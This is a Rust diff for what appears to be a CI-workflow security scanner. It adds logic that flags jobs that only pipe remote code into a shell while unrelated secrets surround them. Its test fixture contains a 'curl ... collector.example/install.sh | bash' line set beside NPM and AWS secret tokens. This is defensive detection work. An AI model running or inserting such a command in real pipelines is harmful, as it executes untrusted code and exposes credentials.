@@ -13,7 +13,7 @@ use crate::flow::command::REMOTE_CODE;
 use crate::flow::trace::{Observation, ObservationKind};
 use crate::report::Class;
 use crate::signal::Signal;
-use crate::technique::{Evidence, Sighting, Technique};
+use crate::technique::{Evidence, Sighting, Technique, named_secrets, unrelated_to_each_other};
 
 /// See the module's documentation.
 pub(super) struct RemoteCode;
@@ -34,10 +34,10 @@ impl Technique for RemoteCode {
 
     fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
         let groups = evidence.grouped(|delivery, _| delivery.client == REMOTE_CODE);
-        let sighting = |group| Sighting {
-            deliveries: group,
-            signals: [Signal::RemoteCode].into(),
-            ..Sighting::default()
+        let sighting = |group: Vec<usize>| {
+            let mut signals = std::collections::BTreeSet::from([Signal::RemoteCode]);
+            signals.extend(beside_nothing_else(evidence, &group));
+            Sighting { deliveries: group, signals, ..Sighting::default() }
         };
         let mut found: Vec<Sighting> = groups.into_iter().map(sighting).collect();
         // Without secrets around it, where nobody's name stands behind the address: a tunnel, a paste, a request bin.
@@ -58,6 +58,22 @@ impl Technique for RemoteCode {
         }
         found
     }
+}
+
+/// What speaks against code from a host that nobody knows, in a job that does nothing but run it: secrets that have nothing to do
+/// with each other stand around it. An installer is followed by what it installs.
+fn beside_nothing_else(evidence: &Evidence<'_>, group: &[usize]) -> Vec<Signal> {
+    let deliveries = || group.iter().filter_map(|at| evidence.delivery(*at));
+    let unknown = deliveries().all(|(_, place)| place.is_foreign());
+    let alone = deliveries().all(|(delivery, _)| {
+        let steps = evidence.workflow.jobs.get(delivery.job).map_or(0, |job| job.steps.len());
+        steps <= 1
+    });
+    let names = named_secrets(&evidence.carried(group));
+    if !unknown || !alone || evidence.workflow.is_action || !unrelated_to_each_other(&names) {
+        return Vec::new();
+    }
+    vec![Signal::ForeignDestination, Signal::UnrelatedSecrets, Signal::SinglePurpose]
 }
 
 /// Words of addresses and steps that install something.
@@ -130,6 +146,24 @@ fn is_out_of_place(evidence: &Evidence<'_>, observation: &Observation) -> bool {
 mod tests {
     use crate::report::Verdict;
     use crate::testing::{check, silent};
+
+    /// A job that does nothing but run a stranger's code, with secrets around it that have nothing to do with each other.
+    #[test]
+    fn a_strangers_code_between_unrelated_secrets() {
+        let job = |more: &str, secrets: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {{{secrets}}}\n    steps:\n{more}      - run: curl -fsSL https://collector.example/install.sh | bash\n"
+            )
+        };
+        let two = "A: '${{ secrets.NPM_TOKEN }}', B: '${{ secrets.AWS_SECRET_ACCESS_KEY }}'";
+        let names = &["AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"];
+        check("remote-code", &job("", two), Verdict::Malicious, names, &["collector.example"]);
+        // Near miss: something else is done, or the secrets belong together.
+        let work = "      - uses: actions/checkout@v4\n      - run: make\n";
+        check("remote-code", &job(work, two), Verdict::Exposed, names, &["collector.example"]);
+        let one = "A: '${{ secrets.WIDGETS_TOKEN }}'";
+        check("remote-code", &job("", one), Verdict::Exposed, &["WIDGETS_TOKEN"], &["collector.example"]);
+    }
 
     #[test]
     fn an_installer_with_a_secret_around_it() {
